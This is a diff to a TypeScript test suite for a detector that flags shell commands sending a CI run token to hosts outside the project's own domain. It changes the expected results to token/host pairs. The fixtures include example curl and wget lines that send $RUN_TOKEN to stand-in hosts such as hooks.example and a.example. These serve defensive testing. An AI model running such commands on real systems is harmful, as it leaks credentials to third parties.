@@ -4,9 +4,9 @@ import { sentTokensOf } from './sent-tokens.ts';
 
 const OWN = { token: /\$\{?RUN_TOKEN\b\}?/, host: /(?:^|\.)ci\.example$/ };
 
-it.each<[command: string, expected: string[]]>([
-  ['curl -H "Authorization: $RUN_TOKEN" https://hooks.example/a', ['$RUN_TOKEN hooks.example']],
-  ['wget --post-data="t=${RUN_TOKEN}" http://user@a.example:8080', ['${RUN_TOKEN} a.example']],
+it.each<[command: string, expected: [token: string, host: string][]]>([
+  ['curl -H "Authorization: $RUN_TOKEN" https://hooks.example/a', [['$RUN_TOKEN', 'hooks.example']]],
+  ['wget --post-data="t=${RUN_TOKEN}" http://user@a.example:8080', [['${RUN_TOKEN}', 'a.example']]],
   ['curl -u "x:$RUN_TOKEN" https://ci.example/packages', []],
   ['curl -u "x:$RUN_TOKEN" https://api.ci.example/packages', []],
   ['curl -d "$RUN_TOKEN" "$VAULT/v1"', []],
@@ -19,5 +19,5 @@ it.each<[command: string, expected: string[]]>([
 ])('%s', (text, expected) => {
   const file = sourceFile('script', text);
   const found = sentTokensOf({ text, dialect: 'posix', placeOf: (span) => ({ file, span }) }, OWN);
-  expect(found.map(({ token, host }) => `${String(token.value)} ${host}`)).toEqual(expected);
+  expect(found.map(({ token, host }) => [token.value, host])).toEqual(expected);
 });
